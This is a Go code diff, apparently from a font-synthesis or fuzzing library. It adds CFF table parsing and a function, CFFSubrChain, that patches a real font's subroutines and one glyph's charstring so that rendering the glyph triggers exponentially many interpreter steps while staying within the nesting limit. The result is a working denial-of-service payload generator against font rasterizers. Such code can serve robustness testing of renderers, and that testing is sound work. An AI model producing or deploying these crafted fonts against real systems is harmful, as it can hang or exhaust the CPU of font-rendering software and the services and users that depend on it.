@@ -139,3 +139,226 @@ func SynthCmap12(groups [][3]uint32) []byte {
 	}
 	return w.b
 }
+
+// Patch is a run of bytes to be written at an absolute file offset.
+type Patch struct {
+	Off  int
+	Data []byte
+}
+
+type cffIndex struct {
+	count int
+	start []int // absolute offsets of the objects, count+1 entries
+	end   int   // absolute offset just after the INDEX
+}
+
+func parseCFFIndex(b []byte, pos int) (ix cffIndex, ok bool) {
+	if pos < 0 || pos+2 > len(b) {
+		return ix, false
+	}
+	ix.count = int(binary.BigEndian.Uint16(b[pos:]))
+	if ix.count == 0 {
+		ix.end = pos + 2
+		return ix, true
+	}
+	if pos+3 > len(b) {
+		return ix, false
+	}
+	offSize := int(b[pos+2])
+	if offSize < 1 || offSize > 4 {
+		return ix, false
+	}
+	base := pos + 3 + (ix.count+1)*offSize - 1
+	for i := 0; i <= ix.count; i++ {
+		o := pos + 3 + i*offSize
+		if o+offSize > len(b) {
+			return ix, false
+		}
+		v := 0
+		for _, c := range b[o : o+offSize] {
+			v = v<<8 | int(c)
+		}
+		if base+v > len(b) || (i > 0 && base+v < ix.start[i-1]) {
+			return ix, false
+		}
+		ix.start = append(ix.start, base+v)
+	}
+	ix.end = ix.start[ix.count]
+	return ix, true
+}
+
+// cffDictInts returns the integer operands of the first occurrence of a one-byte operator of a DICT.
+func cffDictInts(d []byte, op byte) (vals []int, ok bool) {
+	var st []int
+	for i := 0; i < len(d); {
+		c := d[i]
+		switch {
+		case c >= 32 && c <= 246:
+			st, i = append(st, int(c)-139), i+1
+		case c >= 247 && c <= 250 && i+1 < len(d):
+			st, i = append(st, (int(c)-247)*256+int(d[i+1])+108), i+2
+		case c >= 251 && c <= 254 && i+1 < len(d):
+			st, i = append(st, -(int(c)-251)*256-int(d[i+1])-108), i+2
+		case c == 28 && i+2 < len(d):
+			st, i = append(st, int(int16(binary.BigEndian.Uint16(d[i+1:])))), i+3
+		case c == 29 && i+4 < len(d):
+			st, i = append(st, int(int32(binary.BigEndian.Uint32(d[i+1:])))), i+5
+		case c == 30: // real number: skip to the terminating nibble
+			i++
+			for i < len(d) {
+				x := d[i]
+				i++
+				if x&0x0F == 0x0F || x>>4 == 0x0F {
+					break
+				}
+			}
+			st = append(st, 0)
+		case c == 12:
+			st, i = st[:0], i+2
+		case c <= 21:
+			if c == op {
+				return st, true
+			}
+			st, i = st[:0], i+1
+		default:
+			return nil, false
+		}
+	}
+	return nil, false
+}
+
+func cffEncodeInt(v int) []byte {
+	switch {
+	case v >= -107 && v <= 107:
+		return []byte{byte(v + 139)}
+	case v >= 108 && v <= 1131:
+		return []byte{byte((v-108)>>8 + 247), byte((v - 108) & 0xFF)}
+	case v >= -1131 && v <= -108:
+		return []byte{byte((-v-108)>>8 + 251), byte((-v - 108) & 0xFF)}
+	}
+	return []byte{28, byte(v >> 8), byte(v)}
+}
+
+// CFFSubrChain rewrites, in place, subroutines of a CFF font (global ones, else the local ones
+// of a non-CID font) into an acyclic chain of `depth` subroutines in which each one does
+// nothing but call the next as often as its length allows, and the charstring of one glyph so
+// that it calls the first: fan-out^depth interpreter steps from a few hundred bytes, without
+// ever exceeding the subroutine nesting limit. Returns the patches and the glyph to query.
+func CFFSubrChain(img []byte, depth int, pick func(n int) int) (patches []Patch, gid int, ok bool) {
+	kind, tabs := ParseDirectory(img)
+	if kind != KindSfnt {
+		return nil, 0, false
+	}
+	var cff *TableRef
+	for i := range tabs {
+		if tabs[i].Tag == "CFF " {
+			cff = &tabs[i]
+		}
+	}
+	if cff == nil || cff.Offset+4 > len(img) || cff.Offset+cff.Length > len(img) {
+		return nil, 0, false
+	}
+	b := img[:cff.Offset+cff.Length]
+	pos := cff.Offset + int(b[cff.Offset+2])
+	name, ok1 := parseCFFIndex(b, pos)
+	if !ok1 {
+		return nil, 0, false
+	}
+	top, ok2 := parseCFFIndex(b, name.end)
+	if !ok2 || top.count < 1 {
+		return nil, 0, false
+	}
+	str, ok3 := parseCFFIndex(b, top.end)
+	if !ok3 {
+		return nil, 0, false
+	}
+	gsubrs, ok4 := parseCFFIndex(b, str.end)
+	if !ok4 {
+		return nil, 0, false
+	}
+	topDict := b[top.start[0]:top.start[1]]
+	csOff, ok5 := cffDictInts(topDict, 17)
+	if !ok5 || len(csOff) < 1 {
+		return nil, 0, false
+	}
+	cs, ok6 := parseCFFIndex(b, cff.Offset+csOff[len(csOff)-1])
+	if !ok6 || cs.count < 2 {
+		return nil, 0, false
+	}
+	subrs, callOp := gsubrs, byte(29)
+	usable := func(ix cffIndex) []int {
+		var u []int
+		for i := 0; i < ix.count; i++ {
+			if ix.start[i+1]-ix.start[i] >= 7 {
+				u = append(u, i)
+			}
+		}
+		return u
+	}
+	cand := usable(subrs)
+	if len(cand) < depth {
+		// local subroutines of the (single) Private DICT
+		priv, okp := cffDictInts(topDict, 18)
+		if !okp || len(priv) < 2 {
+			return nil, 0, false
+		}
+		pStart := cff.Offset + priv[len(priv)-1]
+		pEnd := pStart + priv[len(priv)-2]
+		if pStart < 0 || pEnd > len(b) || pStart > pEnd {
+			return nil, 0, false
+		}
+		so, oks := cffDictInts(b[pStart:pEnd], 19)
+		if !oks || len(so) < 1 {
+			return nil, 0, false
+		}
+		ls, okl := parseCFFIndex(b, pStart+so[len(so)-1])
+		if !okl {
+			return nil, 0, false
+		}
+		subrs, callOp = ls, 10
+		cand = usable(subrs)
+		if len(cand) < depth {
+			return nil, 0, false
+		}
+	}
+	bias := 107
+	if subrs.count >= 33900 {
+		bias = 32768
+	} else if subrs.count >= 1240 {
+		bias = 1131
+	}
+	// choose `depth` distinct subroutines
+	chain := make([]int, 0, depth)
+	for len(chain) < depth {
+		i := pick(len(cand))
+		chain = append(chain, cand[i])
+		cand = append(cand[:i], cand[i+1:]...)
+	}
+	for k, s := range chain {
+		n := subrs.start[s+1] - subrs.start[s]
+		body := make([]byte, 0, n)
+		if k+1 < len(chain) {
+			call := append(cffEncodeInt(chain[k+1]-bias), callOp)
+			for len(body)+len(call)+1 <= n {
+				body = append(body, call...)
+			}
+		}
+		for len(body) < n {
+			body = append(body, 11) // return
+		}
+		patches = append(patches, Patch{Off: subrs.start[s], Data: body})
+	}
+	// a glyph whose charstring is long enough to hold the first call
+	for try := 0; try < 64; try++ {
+		g := 1 + pick(cs.count-1)
+		if n := cs.start[g+1] - cs.start[g]; n >= 5 {
+			body := append(cffEncodeInt(chain[0]-bias), callOp, 14)
+			for len(body) < n {
+				body = append(body, 14) // endchar
+			}
+			patches = append(patches, Patch{Off: cs.start[g], Data: body})
+			return patches, g, true
+		}
+	}
+	return nil, 0, false
+}
